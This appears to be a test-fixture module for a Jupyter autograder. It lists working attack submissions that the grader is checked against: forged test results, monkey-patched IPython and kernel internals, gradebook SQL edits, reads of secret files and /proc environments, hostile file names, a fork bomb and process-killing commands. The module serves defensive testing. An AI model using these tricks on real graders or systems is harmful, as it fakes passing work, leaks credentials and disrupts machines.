"""Attacks on the grader: one small submission each, with the property that it attacks.

Every attack hands in wrong work with a trick on top, so any mark is a forged one. What an attack reads it prints, what
it writes outside carries its own name, and what is to outlive it has its name too: `grading` looks for all
three, and does not need to know which attack means which.

Code runs below `PREAMBLE`, in the answer cell of `double`, before every locked and every graded cell. It knows
where the course lies, which no submission should count on being a secret.
"""

import os
import re
import stat
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell, new_output

from tests.gradebox.conftest import label, labelled
from tests.gradebox.split_support import FULL_MARKS

__all__ = ["ATTACKS", "GROUPS", "PREAMBLE", "Attack"]

PREAMBLE = """import json, os, sys, time
from pathlib import Path
ROOT, NAME, PORT, DOOR, TOKEN = Path({root!r}), {name!r}, {port}, {door}, {token!r}
OWN = ROOT / "outside" / NAME
def instead_of_loads(fake, real=json.loads):
    mine = lambda: sys._getframe(2).f_globals.get("__name__") == "__main__"
    json.loads = lambda *a, **k: fake(*a, **k) if mine() else real(*a, **k)
"""
GROUPS = ("marks", "reach", "files", "resources")


@dataclass(frozen=True)
class Attack:
    """One submission that asks for more than its due.

    Attributes:
        attacks: the property, in one clause.
        code: runs in an answer cell, before the locked and the graded cells.
        edit: what is done to the notebook.
        files: what is done to the submission's folder.
        ending: the named ending that the student reads, if the attack earns one.
        safe_for_stock: it can harm neither the machine nor its other processes, even without any protection.
    """

    name: str
    group: str
    attacks: str
    code: str = ""
    edit: Callable[[nbformat.NotebookNode], None] | None = None
    files: Callable[[Path, Path], None] | None = None
    ending: str = ""
    safe_for_stock: bool = True

    @property
    def student(self) -> str:
        return re.sub(r"[^a-z0-9]+", "_", self.name.lower()).strip("_")


def tests_of(notebook: nbformat.NotebookNode) -> list[nbformat.NotebookNode]:
    return [labelled(notebook, name) for name in FULL_MARKS]


# --- the notebook file


def forged_outputs(notebook: nbformat.NotebookNode) -> None:
    for name, points in FULL_MARKS.items():
        result = new_output("execute_result", data={"text/plain": str(points)}, execution_count=1)
        labelled(notebook, name).outputs = [result]


def edited_tests(notebook: nbformat.NotebookNode) -> None:
    for cell in tests_of(notebook):
        cell.source = "1 + 1"


def copied_tests(notebook: nbformat.NotebookNode) -> None:
    for name in FULL_MARKS:
        notebook.cells.insert(0, label(new_code_cell("1.0"), name, grade=True, locked=True, points=50))
        notebook.cells.append(label(new_code_cell("1.0"), name, grade=True, locked=True, points=50))


def deleted_tests(notebook: nbformat.NotebookNode) -> None:
    notebook.cells = [cell for cell in notebook.cells if cell.metadata.get("nbgrader", {}).get("points") is None]


def tagged_tests(notebook: nbformat.NotebookNode) -> None:
    for cell in tests_of(notebook):
        cell.metadata["tags"] = ["show", "skip-execution", "raises-exception"]


def more_points(notebook: nbformat.NotebookNode) -> None:
    for cell in tests_of(notebook):
        cell.metadata["nbgrader"].update(points=1000, schema_version=1)


def relabelled_tests(notebook: nbformat.NotebookNode) -> None:
    for cell in tests_of(notebook):
        cell.metadata["nbgrader"].update(grade=False, solution=True, locked=False)


def edited_checksums(notebook: nbformat.NotebookNode) -> None:
    for cell in tests_of(notebook):
        cell.source = "assert True"
        cell.metadata["nbgrader"].update(checksum="0" * 32, cell_type="markdown")


def handed_to_people(notebook: nbformat.NotebookNode) -> None:
    for cell in tests_of(notebook):
        cell.metadata["nbgrader"].update(solution=True)
        cell.cell_type = "markdown"
        del cell["outputs"], cell["execution_count"]


def edited_handin_cells(notebook: nbformat.NotebookNode) -> None:
    for name, factor in (("double", 2), ("triple", 3)):
        cell = labelled(notebook, f"{name}_handin")
        cell.source = (
            f"Path('handin/{name}.json').write_text(json.dumps({{'probe': PROBE, 'value': {factor} * PROBE}}))"
        )


def own_verdict(notebook: nbformat.NotebookNode) -> None:
    notebook.metadata["gradebox"] = {"environment": {"PROBE_SEED": "0"}, "fault": None}
    notebook.metadata["kernelspec"] = {"name": "gradebox-trusted", "display_name": "trusted", "language": "python"}


# --- the shell and the interpreter of a kernel that also runs the tests

YES = """
class Yes:
    def __eq__(self, other): return True
    __lt__ = __le__ = __gt__ = __ge__ = __eq__
    __hash__ = object.__hash__
    def __getitem__(self, name): return self
    def __sub__(self, other): return self
instead_of_loads(lambda *a, **k: Yes())"""
LYING_SCALAR = """
import numpy as np
class Scalar(np.float64):
    def __eq__(self, other): return np.True_
    __le__ = __ge__ = __lt__ = __gt__ = __eq__
    __hash__ = np.float64.__hash__
instead_of_loads(lambda *a, **k: {"probe": Scalar(1), "value": Scalar(1)})"""
AST = """
import ast
class Drop(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
get_ipython().ast_transformers.append(Drop())"""
INPUT = """
get_ipython().input_transformers_cleanup.append(
    lambda lines: ["True\\n"] if "BEGIN HIDDEN" in "".join(lines) else lines)"""
RUN_CELL = """
shell, kind = get_ipython(), type(get_ipython())
real = shell.{name}
{define}
shell.{name} = fake"""
FAKE_RUN = """def fake(source, *a, **k):
    return real("True" if "HIDDEN" in source else source, *a, **k)"""
FAKE_ASYNC = """async def fake(source, *a, **k):
    return await real("True" if "HIDDEN" in source else source, *a, **k)"""
FAKE_CODE = """async def fake(code, *a, **k):
    if "work" in code.co_names:
        return False
    return await real(code, *a, **k)"""
DO_EXECUTE = """
kernel = get_ipython().kernel
async def do_execute(code, *a, **k):
    return {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
kernel.do_execute = do_execute"""
FORGED = """
kernel = get_ipython().kernel
def loads(*a, **k):
    forged = {"data": {"text/plain": "2.0"}, "metadata": {}, "execution_count": 1}
    kernel.session.send(kernel.iopub_socket, "execute_result", forged, parent=kernel.get_parent())
    raise ValueError("an honest error")
instead_of_loads(loads)"""
FORGED_AFTER = """
kernel, shell = get_ipython().kernel, get_ipython()
def later(result):
    for text in ("2.0", "1.0"):
        forged = {"data": {"text/plain": text}, "metadata": {}, "execution_count": 1}
        kernel.session.send(kernel.iopub_socket, "execute_result", forged, parent=kernel.get_parent())
shell.events.register("post_run_cell", later)"""
SHOWTRACEBACK = """
shell = get_ipython()
shell.showtraceback = shell._showtraceback = shell.showsyntaxerror = lambda *a, **k: None"""
CUSTOM_EXC = """
get_ipython().set_custom_exc((BaseException,), lambda self, kind, value, trace, tb_offset=None: None)"""
EXCEPTHOOK = """
import IPython.core.ultratb as ultratb
sys.excepthook = lambda *a: None
for name in dir(ultratb):
    if name.endswith("TB"):
        try:
            getattr(ultratb, name).structured_traceback = lambda *a, **k: []
        except (AttributeError, TypeError):
            pass
kernel = get_ipython().kernel
kernel.session.send = (lambda real: lambda stream, kind, *a, **k:
                       None if kind == "error" else real(stream, kind, *a, **k))(kernel.session.send)"""
REPLY = """
session = get_ipython().kernel.session
def send(stream, kind, content=None, *a, real=session.send, **k):
    if kind == "execute_reply":
        content = {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
    return None if kind == "error" else real(stream, kind, content, *a, **k)
session.send = send"""
BUILTINS = """
import builtins
builtins.__import__ = (lambda real: lambda name, *a, **k:
                       type("m", (), {"loads": lambda *a: all_equal()}) if name == "json" and "HIDDEN" in In[-1]
                       else real(name, *a, **k))(builtins.__import__)
class Equal:
    __eq__ = lambda *a: True
    __getitem__ = __sub__ = lambda self, other: self
builtins.all_equal = Equal"""
MODULES = """
import types
class Equal:
    __eq__ = lambda *a: True
    __getitem__ = __sub__ = lambda self, other: self
fake = types.ModuleType("json")
fake.loads, fake.dumps, fake.dump = lambda *a, **k: Equal(), json.dumps, json.dump
sys.modules["json"] = fake
sys.modules["helper"] = types.SimpleNamespace(factor=lambda: 1)"""
POISON = "import builtins, sys\nprint('poisoned')\nclass Equal:\n    __eq__ = lambda *a: True\n" + (
    "    __getitem__ = __sub__ = lambda self, other: self\nimport json\nreal = json.loads\n"
    "main = lambda: sys._getframe(2).f_globals.get('__name__') == '__main__'\n"
    "json.loads = lambda *a, **k: Equal() if main() else real(*a, **k)\n"
)
START_UP = f"""
poison = {POISON!r}
names = ["sitecustomize.py", "usercustomize.py", "conftest.py"]
names += ["handin/sitecustomize.py", "poison.pth", "ipython_config.py"]
for place in (Path("."), OWN):
    for name in names:
        try:
            (place / name).parent.mkdir(exist_ok=True)
            (place / name).write_text(poison)
        except OSError:
            pass"""
IPYTHON_START = f"""
folder = Path(os.environ.get("IPYTHONDIR") or Path.home() / ".ipython") / "profile_default" / "startup"
try:
    folder.mkdir(parents=True, exist_ok=True)
    start = "import os\\nif %r in os.getcwd():\\n    exec(%r)" % (NAME, {POISON!r})
    (folder / f"00-{{NAME}}.py").write_text(start)
except OSError as error:
    print(error)"""
SUPPORT = """
for name in ("helper.py", "handin/helper.py", "../trusted/helper.py"):
    try:
        Path(name).parent.mkdir(exist_ok=True)
        Path(name).write_text("def factor(): return 1\\n")
    except OSError:
        pass
import importlib, helper
importlib.reload(helper)"""
FRAMES = """
def loads(*a, **k):
    names = sys._getframe(2).f_globals
    factor = 3 if "factor()" in names["In"][-1] else 2
    print("LEAK", names["In"][-1])
    return {"probe": names["probe"], "value": factor * names["probe"]}
instead_of_loads(loads)"""
GC = """
import gc
def loads(*a, **k):
    for thing in gc.get_objects():
        for text in (thing.values() if type(thing) is dict else thing if type(thing) is list else ()):
            if isinstance(text, str) and "BEGIN HIDDEN" in text:
                print("LEAK", text)
    return {"probe": probe, "value": (3 if "factor()" in In[-1] else 2) * probe}
instead_of_loads(loads)"""
HOOK = """
seen = []
get_ipython().events.register("pre_run_cell", lambda info: print("LEAK", info.raw_cell))
get_ipython().events.register("post_run_cell", lambda result: print("LEAK", In[-1]))"""
THREAD = """
import threading
def late(target):
    time.sleep(15)
    for name, factor in (("double", 2), ("triple", 3)):
        (target / f"{name}.json").write_text(json.dumps({"probe": PROBE, "value": factor * PROBE}))
threading.Thread(target=late, args=(Path("handin").absolute(),)).start()"""
DAEMON = """
if not os.fork():
    os.setsid()
    if not os.fork():
        os.execvp("sleep", [f"survivor-{NAME}-{TOKEN}", "100"])
    os._exit(0)
os.wait()"""
DAEMON_THAT_HANDS_IN = """
if not os.fork():
    os.setsid()
    if not os.fork():
        script = (
            "import sys, time, json, pathlib\\nfolder, probe = pathlib.Path(sys.argv[2]), int(sys.argv[3])\\n"
            "time.sleep(15)\\nfor _ in range(100):\\n"
            "    for name, factor in (('double', 2), ('triple', 3)):\\n"
            "        text = json.dumps({'probe': probe, 'value': factor * probe})\\n"
            "        (folder / (name + '.json')).write_text(text)\\n    time.sleep(0.5)\\n"
        )
        name, folder = f"survivor-{NAME}-{TOKEN}", os.path.abspath("handin")
        os.execv(sys.executable, ["python", "-c", script, name, folder, str(PROBE)])
    os._exit(0)
os.wait()"""
ATEXIT = """
import atexit, signal
def late(*a):
    for name, factor in (("double", 2), ("triple", 3)):
        Path(f"handin/{name}.json").write_text(json.dumps({"probe": PROBE, "value": factor * PROBE}))
atexit.register(late)
signal.signal(signal.SIGTERM, late)"""
GRADEBOOK_WRITE = """
import sqlite3
try:
    base = sqlite3.connect(ROOT / "gradebook.db", timeout=3)
    mine = "SELECT n.id FROM submitted_notebook n JOIN submitted_assignment a ON n.assignment_id = a.id"
    base.execute(f"UPDATE grade SET manual_score = 2 WHERE notebook_id IN ({mine} WHERE a.student_id = ?)", [NAME])
    base.commit()
except sqlite3.Error as error:
    print(error)"""


def copied_handins(notebook: nbformat.NotebookNode) -> None:
    for name in ("double", "triple"):
        labelled(notebook, name).source = f"def {name}(x):\n    raise ValueError('the copy stays')"


def beside_handins(folder: Path, root: Path) -> None:
    (folder / "handin").mkdir()
    for name, factor in (("double", 2), ("triple", 3)):
        (folder / "handin" / f"{name}.json").write_text(f'{{"probe": 7, "value": {7 * factor}}}')


def beside_modules(folder: Path, root: Path) -> None:
    for name in ("numpy", "json", "helper", "ipykernel", "sitecustomize", "usercustomize", "conftest"):
        (folder / f"{name}.py").write_text(POISON)


MARKS = [
    Attack("an always-equal object", "marks", "tests compare with operators of the grader's own", YES),
    Attack("a numpy scalar with lying comparisons", "marks", "numbers are read as numbers", LYING_SCALAR),
    Attack("an AST transformer that drops asserts", "marks", "tests run as they are written", AST),
    Attack("an input transformer that drops tests", "marks", "tests run as they are written", INPUT),
    Attack(
        "replaced run_cell",
        "marks",
        "the shell that runs the tests is the grader's",
        RUN_CELL.format(name="run_cell", define=FAKE_RUN),
    ),
    Attack(
        "replaced run_cell_async",
        "marks",
        "the shell that runs the tests is the grader's",
        RUN_CELL.format(name="run_cell_async", define=FAKE_ASYNC),
    ),
    Attack(
        "replaced run_code",
        "marks",
        "the shell that runs the tests is the grader's",
        RUN_CELL.format(name="run_code", define=FAKE_CODE),
    ),
    Attack("replaced do_execute", "marks", "the kernel that runs the tests is the grader's", DO_EXECUTE),
    Attack("a forged result before the error", "marks", "the results of tests come from the tests", FORGED),
    Attack("a forged result after the error", "marks", "the results of tests come from the tests", FORGED_AFTER),
    Attack("a forged reply", "marks", "the end of a test is reported by the grader's kernel", REPLY),
    Attack("a silenced showtraceback", "marks", "the errors of tests are seen", SHOWTRACEBACK),
    Attack("a custom exception handler", "marks", "the errors of tests are seen", CUSTOM_EXC),
    Attack("silenced exception hooks and messages", "marks", "the errors of tests are seen", EXCEPTHOOK),
    Attack("replaced builtins", "marks", "tests use Python's own builtins", BUILTINS),
    Attack("poisoned sys.modules", "marks", "tests import the modules that they name", MODULES),
    Attack("sitecustomize, conftest and pth files", "marks", "no file of a student's is run by the grader", START_UP),
    Attack("an IPython start-up file", "marks", "no file of a student's is run by the grader", IPYTHON_START),
    Attack(
        "a local numpy.py and json.py",
        "marks",
        "tests import the modules that they name",
        files=beside_modules,
    ),
    Attack("overwritten support files", "marks", "tests use the instructor's support files", SUPPORT),
    Attack("stack-frame introspection", "marks", "expected answers are out of reach", FRAMES),
    Attack("gc introspection", "marks", "expected answers are out of reach", GC),
    Attack("a hook that reads the tests", "marks", "hidden tests are out of reach", HOOK),
    Attack("a thread that hands in late", "marks", "hand-ins end with their kernel", THREAD),
    Attack("a daemon that hands in late", "marks", "nothing outlives its kernel", DAEMON_THAT_HANDS_IN),
    Attack("handing in at exit", "marks", "hand-ins end with the last cell", ATEXIT),
    Attack("writing marks into the gradebook", "marks", "only the grader writes the gradebook", GRADEBOOK_WRITE),
    Attack(
        "hand-ins copied from another student",
        "marks",
        "a hand-in answers the probes of this run",
        edit=copied_handins,
        files=beside_handins,
    ),
    Attack("forged outputs", "marks", "only outputs of this run count", edit=forged_outputs),
    Attack("edited graded cells", "marks", "tests are the instructor's", edit=edited_tests),
    Attack("copied graded cells", "marks", "each test counts once, as the instructor's", edit=copied_tests),
    Attack("deleted graded cells", "marks", "each test runs", edit=deleted_tests),
    Attack("graded cells tagged to be skipped", "marks", "each test runs", edit=tagged_tests),
    Attack("edited points", "marks", "points are the instructor's", edit=more_points),
    Attack("edited labels", "marks", "what is graded is the instructor's word", edit=relabelled_tests),
    Attack("edited checksums", "marks", "tests are the instructor's", edit=edited_checksums),
    Attack("graded cells turned into text", "marks", "what is graded is the instructor's word", edit=handed_to_people),
    Attack("edited locked hand-in cells", "marks", "locked cells are the instructor's", edit=edited_handin_cells),
    Attack("a kernel and a verdict of its own", "marks", "settings are the instructor's", edit=own_verdict),
]

# --- what lies outside

LOOK = """
def look(path):
    try:
        print("LEAK", Path(path).read_bytes().decode(errors="replace")[:200_000])
    except OSError as error:
        print(error)
def put(path):
    try:
        Path(path).parent.mkdir(parents=True, exist_ok=True)
        with open(path, "a") as file:
            file.write("changed")
    except OSError as error:
        print(error)
"""
PROC_ENVIRON = """
for pid in (os.getpid(), os.getppid()):
    try:
        found = Path(f"/proc/{pid}/environ").read_text().split("\\0")
        print("LEAK", [line for line in found if "PASSWORD" in line])
    except OSError as error:
        print(error)"""
PROC_CWD = """
for pid in (os.getpid(), os.getppid()):
    for name in ("cwd", "root"):
        for below in ("source/sums/sums.ipynb", f"{str(ROOT)[1:]}/source/sums/sums.ipynb"):
            look(f"/proc/{pid}/{name}/{below}")"""
OWN_NOTEBOOK = """
for path in [*Path(".").glob("*.ipynb"), *Path("..").glob("*/*.ipynb"), *Path("/mnt/original").glob("*.ipynb")]:
    look(path)"""
LINK_OUT = """
os.symlink(OWN / "mine.txt", "innocent.txt")
os.makedirs("handin", exist_ok=True)
os.symlink(OWN / "mine.txt", "handin/innocent.json")"""
CLIENT = """
import socket
for family, address in ((socket.AF_INET, ("127.0.0.1", PORT)),):
    try:
        with socket.create_connection(address, timeout=2) as s:
            s.sendall(NAME.encode())
    except OSError as error:
        print(error)"""
SERVER = """
import socket
server = socket.socket()
server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
server.bind(("127.0.0.1", DOOR))
server.listen()
server.settimeout(2)
try:
    server.accept()
except OSError as error:
    print(error)
server.close()"""


def link_to_secret(folder: Path, root: Path) -> None:
    (folder / "notes.txt").symlink_to(root / "outside" / "secret.txt")
    (folder / "class").symlink_to(root / "submitted" / "a_careful")


def hard_link_to_secret(folder: Path, root: Path) -> None:
    os.link(root / "outside" / "secret.txt", folder / "notes.txt")


def notebook_is_a_link(folder: Path, root: Path) -> None:
    (folder / "sums.ipynb").unlink()
    (folder / "sums.ipynb").symlink_to(root / "submitted" / "a_careful" / "sums" / "sums.ipynb")


REACH = [
    Attack(
        "reading a file outside", "reach", "files outside are out of reach", LOOK + "look(ROOT / 'outside/secret.txt')"
    ),
    Attack("writing a file outside", "reach", "files outside stay", LOOK + "put(OWN / 'mine.txt')"),
    Attack("reading the gradebook", "reach", "the gradebook is out of reach", LOOK + "look(ROOT / 'gradebook.db')"),
    Attack("reading source", "reach", "hidden tests are out of reach", LOOK + "look(ROOT / 'source/sums/sums.ipynb')"),
    Attack(
        "writing into source", "reach", "the instructor's files stay", LOOK + "put(ROOT / f'source/sums/{NAME}.py')"
    ),
    Attack(
        "reading another student's folder",
        "reach",
        "other people's work is out of reach",
        LOOK + "look(ROOT / 'submitted/a_careful/sums/notes.txt')",
    ),
    Attack(
        "writing into another student's folder",
        "reach",
        "other people's work stays",
        LOOK + "put(ROOT / f'submitted/a_careful/sums/{NAME}.txt')",
    ),
    Attack(
        "reading secrets from the environment",
        "reach",
        "the grader's environment is out of reach",
        "print('LEAK', {name: value for name, value in os.environ.items() if 'PASSWORD' in name})",
    ),
    Attack("reading environments from /proc", "reach", "other processes are out of sight", LOOK + PROC_ENVIRON),
    Attack("reading hidden tests from /proc", "reach", "other processes are out of sight", LOOK + PROC_CWD),
    Attack("reading hidden tests from the own notebook", "reach", "hidden tests are out of reach", LOOK + OWN_NOTEBOOK),
    Attack("a link in the folder to a secret", "reach", "links are not followed", files=link_to_secret),
    Attack("a link left to a file outside", "reach", "the modes of files outside stay", LINK_OUT),
    Attack("a network client", "reach", "there is no network", CLIENT),
    Attack("a network listener", "reach", "there is no network", SERVER),
    Attack("a daemon that outlives the kernel", "reach", "nothing outlives its kernel", DAEMON),
    Attack("reading the feedback page", "reach", "feedback shows no line of a hidden test"),
]

# --- what is handed in

AT_THE_END = """
import atexit
from pathlib import Path
path = Path("handin/double.json")
path.unlink(missing_ok=True)
{how}"""


def replaced(how: str) -> Callable[[nbformat.NotebookNode], None]:
    """Put the locked cell's file out of the way, between that cell and the test."""

    def edit(notebook: nbformat.NotebookNode) -> None:
        places = [index for index, cell in enumerate(notebook.cells) if cell is labelled(notebook, "double_handin")]
        notebook.cells.insert(places[0] + 1, new_code_cell(PREAMBLE_HERE + AT_THE_END.format(how=how)))

    return edit


PREAMBLE_HERE = "### PREAMBLE\n"
SOCKET = "import socket; s = socket.socket(socket.AF_UNIX); s.bind(str(path))"
DEVICE = f"os.mknod(path, {stat.S_IFCHR | 0o666}, os.makedev(1, 5))"
NESTED = "path.write_text('[' * 4000 + ']' * 4000)"
NAN = """path.write_text('{"probe": NaN, "value": Infinity}')"""
HUGE_NUMBER = """path.write_text('{"probe": 1' + '0' * 9000 + ', "value": 1}')"""
NAMES = """
for name in ("-rf.json", "a\\nb.json", "\\x1b[31m.json", "a;b.json", "..json", "json.py", "numpy.json.py"):
    try:
        Path("handin", name).write_text("{}")
    except OSError:
        pass"""
FILES = [
    Attack(
        "a symbolic link as hand-in",
        "files",
        "links are not followed",
        edit=replaced("os.symlink(OWN / 'double.json', path)"),
    ),
    Attack(
        "a hard link as hand-in",
        "files",
        "a hand-in has one name",
        edit=replaced("os.link(OWN / 'double.json', path)"),
    ),
    Attack(
        "a folder of hand-ins that is a link",
        "files",
        "links are not followed",
        edit=replaced("Path('handin').rename('h'); os.symlink(OWN, 'handin')"),
    ),
    Attack("a FIFO as hand-in", "files", "no pipe is waited for", edit=replaced("os.mkfifo(path)")),
    Attack("a socket as hand-in", "files", "only regular files are read", edit=replaced(SOCKET)),
    Attack("a device as hand-in", "files", "only regular files are read", edit=replaced(DEVICE), safe_for_stock=False),
    Attack(
        "a sparse file as hand-in",
        "files",
        "sizes are checked before reading",
        edit=replaced("os.truncate(os.open(path, os.O_CREAT | os.O_WRONLY), 15_000_000)"),
    ),
    Attack(
        "a huge hand-in",
        "files",
        "sizes are checked before reading",
        edit=replaced("path.write_text(' ' * 12_000_000)"),
    ),
    Attack(
        "too many hand-ins",
        "files",
        "the number of hand-ins is bounded",
        edit=replaced("[Path(f'handin/a{n}.json').touch() for n in range(2000)]"),
    ),
    Attack("hand-ins with hostile names", "files", "names are harmless", edit=replaced(NAMES)),
    Attack("deeply nested JSON", "files", "a malformed hand-in costs its own exercise", edit=replaced(NESTED)),
    Attack("NaN in a hand-in", "files", "a malformed hand-in costs its own exercise", edit=replaced(NAN)),
    Attack("an endless number", "files", "a malformed hand-in costs its own exercise", edit=replaced(HUGE_NUMBER)),
    Attack("a hard link in the folder to a secret", "files", "links are not followed", files=hard_link_to_secret),
    Attack("a notebook that is a link", "files", "links are not followed", files=notebook_is_a_link),
]

# --- what the machine has

FORK_BOMB = """
import threading
for _ in range(20000):
    try:
        if not os.fork():
            time.sleep(20)
            os._exit(0)
    except OSError as error:
        print(error)
        break"""
STUBBORN = """
while True:
    try:
        while True:
            time.sleep(1)
    except KeyboardInterrupt:
        pass"""
DISK = """
for folder in (".", "/tmp", "/dev/shm", "/var/tmp"):
    try:
        for n in range(40):
            with open(f"{folder}/full-{n}", "wb") as file:
                for _ in range(16):
                    file.write(bytes(1 << 20))
    except OSError as error:
        print(error)"""
MANY_FILES = """
try:
    for n in range(30_000):
        open(f"file-{n}", "wb").close()
except OSError as error:
    print(error)"""
KILL_PARENT = """
import signal
for pid in {os.getppid(), os.getpgid(0), 1, *(os.getpid() - n for n in range(1, 20))} - {os.getpid(), 0}:
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError as error:
        print(error)"""
KILL_ALL = """
import signal
try:
    os.kill(-1, signal.SIGKILL)
except OSError as error:
    print(error)"""

RESOURCES = [
    Attack("a fork bomb", "resources", "processes are bounded", FORK_BOMB, safe_for_stock=False),
    Attack(
        "30 GB of memory",
        "resources",
        "memory is bounded",
        "hoard = [bytearray(1 << 28) for _ in range(120)]",
        safe_for_stock=False,
    ),
    Attack("filling the disk", "resources", "written bytes are bounded", DISK, safe_for_stock=False),
    Attack(
        "a flood of files",
        "resources",
        "what is left behind is bounded",
        MANY_FILES,
        safe_for_stock=False,
    ),
    Attack("an endless loop", "resources", "a cell has a time limit", "while True:\n    pass", ending="CellTimedOut"),
    Attack("an interrupt-proof loop", "resources", "a cell has a time limit", STUBBORN, ending="CellTimedOut"),
    Attack(
        "a loop inside C",
        "resources",
        "a cell has a time limit",
        "from itertools import repeat\nsum(repeat(1, 10**13))",
        ending="CellTimedOut",
    ),
    Attack("os._exit", "resources", "a dead kernel has a named ending", "os._exit(0)", ending="KernelDied"),
    Attack(
        "killing its own process",
        "resources",
        "a dead kernel has a named ending",
        "os.kill(os.getpid(), 9)",
        ending="OutOfMemory",
    ),
    Attack(
        "a crash in C",
        "resources",
        "a dead kernel has a named ending",
        "import ctypes\nctypes.string_at(0)",
        ending="KernelDied",
    ),
    Attack("killing the parent", "resources", "processes outside stay", KILL_PARENT, safe_for_stock=False),
    Attack("killing everything", "resources", "processes outside stay", KILL_ALL, safe_for_stock=False),
    Attack(
        "a flood of output",
        "resources",
        "output is bounded",
        "while True:\n    print('x' * 1000)\n    time.sleep(0.001)",
        ending="TooMuchOutput",
        safe_for_stock=False,
    ),
]

ATTACKS: tuple[Attack, ...] = (*MARKS, *REACH, *FILES, *RESOURCES)
assert len({attack.student for attack in ATTACKS}) == len(ATTACKS)
